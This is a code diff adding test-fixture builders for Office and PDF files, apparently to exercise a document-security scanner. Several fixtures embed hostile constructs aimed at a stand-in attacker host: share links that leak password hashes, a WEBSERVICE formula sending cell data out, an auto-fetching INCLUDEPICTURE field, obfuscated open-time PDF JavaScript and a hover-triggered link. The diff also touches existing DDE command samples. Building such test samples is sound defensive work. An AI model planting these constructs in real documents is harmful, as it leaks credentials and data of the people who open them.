@@ -187,6 +187,32 @@ def dde_field_in_word():
 # --- Excel -----------------------------------------------------------------------------------
 
 
+def vml_picture_from_a_share():
+    """An old-style (VML) picture whose source is a share, with no relationship at all."""
+    body = ORDINARY_BODY + (
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
+        'src="\\\\angriber.example\\del\\x.png"/></v:shape></w:pict></w:r></w:p>'
+    )
+    return word_document(body)
+
+
+def link_to_a_file():
+    """A hyperlink relationship to a file on a share (a click sends the password hash)."""
+    body = ORDINARY_BODY.replace('r:id="rId8"', 'r:id="rId22"')
+    return word_document(
+        body, document_rels=[("rId22", "hyperlink", "file://angriber.example/del/x", "External")]
+    )
+
+
+def picture_field_from_the_web():
+    """INCLUDEPICTURE: Word fetches the picture from the address when fields update."""
+    body = ORDINARY_BODY + (
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://angriber.example/p.png&quot; '
+        '\\* MERGEFORMATINET "><w:r><w:t>billede</w:t></w:r></w:fldSimple></w:p>'
+    )
+    return word_document(body)
+
+
 def excel_workbook(*, formula=None):
     """A workbook as a municipality keeps its figures: two sheets, numbers, dates, sums, a
     link to a web page, a frozen header and column widths (openpyxl); `formula` goes in D2."""
@@ -224,11 +250,35 @@ def dde_formula_in_excel():
     return excel_workbook(formula="=cmd|' /C calc'!A0")
 
 
+def webservice_formula():
+    """A formula that fetches an address each time the sheet is calculated."""
+    return excel_workbook(formula='=WEBSERVICE("https://angriber.example/?"&A2)')
+
+
+def _parts(book):
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def excel_with_printer_settings():
+    """A workbook whose page setup was touched: Excel keeps the printer's settings as a .bin
+    part (a Windows DEVMODE, the printer's name first), which is no program."""
+    parts = _parts(excel_workbook())
+    parts["xl/printerSettings/printerSettings1.bin"] = "Rådhusets printer".encode(
+        "utf-16-le"
+    ).ljust(220, b"\x00")
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"<Default ",
+        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
+        b'spreadsheetml.printerSettings"/><Default ',
+        1,
+    )
+    return zip_of(parts)
+
+
 def dde_link_in_excel():
     """An external link part holding a DDE link, as Excel keeps `=cmd|…` links."""
-    book = excel_workbook()
-    with zipfile.ZipFile(io.BytesIO(book)) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts = _parts(excel_workbook())
     parts["xl/externalLinks/externalLink1.xml"] = (
         b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
@@ -307,41 +357,39 @@ def web_link():
     )
 
 
-def many_objects_pdf(count=199_000, per_stream=1000):
-    """Issue 20's PDF: `count` tiny objects, each pointing at the next, packed in compressed
-    object streams, all reachable from the catalogue (1.9 MB for 199,000)."""
+def packed_pdf(catalogue_extra, bodies, per_stream=1000):
+    """A PDF whose objects `bodies` are packed in compressed object streams of `per_stream`
+    each, with a cross-reference stream; `catalogue_extra(first)` goes in the catalogue,
+    `first` being the number of the first packed object."""
     out = io.BytesIO()
     out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
     offsets, where = {}, {}
-    streams = -(-count // per_stream)
+    streams = -(-len(bodies) // per_stream)
     first = 4 + streams
-    last = first + count - 1
 
     def write(number, body):
         offsets[number] = out.tell()
         out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
 
-    write(1, b"<< /Type /Catalog /Pages 2 0 R /Extra %d 0 R >>" % first)
+    write(1, b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue_extra(first))
     write(2, PAGES[0])
     write(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
     for stream in range(streams):
-        numbers = range(
-            first + stream * per_stream, min(last + 1, first + (stream + 1) * per_stream)
-        )
-        bodies = [b"[%d 0 R]" % (n + 1) if n < last else b"null" for n in numbers]
+        chunk = bodies[stream * per_stream : (stream + 1) * per_stream]
         header, position = [], 0
-        for index, (number, body) in enumerate(zip(numbers, bodies, strict=True)):
+        for index, body in enumerate(chunk):
+            number = first + stream * per_stream + index
             header.append(b"%d %d" % (number, position))
             position += len(body) + 1
             where[number] = (4 + stream, index)
         head = b" ".join(header) + b"\n"
-        data = zlib.compress(head + b" ".join(bodies) + b" ", 9)
+        data = zlib.compress(head + b" ".join(chunk) + b" ", 9)
         write(
             4 + stream,
             b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s"
-            b"\nendstream" % (len(numbers), len(head), len(data), data),
+            b"\nendstream" % (len(chunk), len(head), len(data), data),
         )
-    xref = last + 1
+    xref = first + len(bodies)
     offsets[xref] = out.tell()
     rows = [struct.pack(">BIH", 0, 0, 65535)]
     for number in range(1, xref + 1):
@@ -358,6 +406,32 @@ def many_objects_pdf(count=199_000, per_stream=1000):
     )
     out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref])
     return out.getvalue()
+
+
+def many_objects_pdf(count=199_000):
+    """Issue 20's PDF: `count` tiny objects, each pointing at the next, packed in compressed
+    object streams, all reachable from the catalogue (1.9 MB for 199,000)."""
+    first = 4 + -(-count // 1000)
+    bodies = [b"[%d 0 R]" % (first + i + 1) for i in range(count - 1)] + [b"null"]
+    return packed_pdf(lambda first: b"/Extra %d 0 R" % first, bodies)
+
+
+def script_in_an_object_stream():
+    """JavaScript run on opening, its action compressed inside an object stream and its
+    name escaped: nothing of it shows in the file's bytes."""
+    return packed_pdf(
+        lambda first: b"/OpenAction %d 0 R" % first,
+        [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"],
+    )
+
+
+def link_that_opens_on_hover():
+    """A link whose additional action opens an address when the pointer passes over it."""
+    return pdf_with(
+        annotation=b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI "
+        b"(https://www.sundhed.dk/) >> /AA << /E << /S /URI /URI (https://angriber.example/) "
+        b">> >> >>"
+    )
 
 
 def padded_pdf(size):
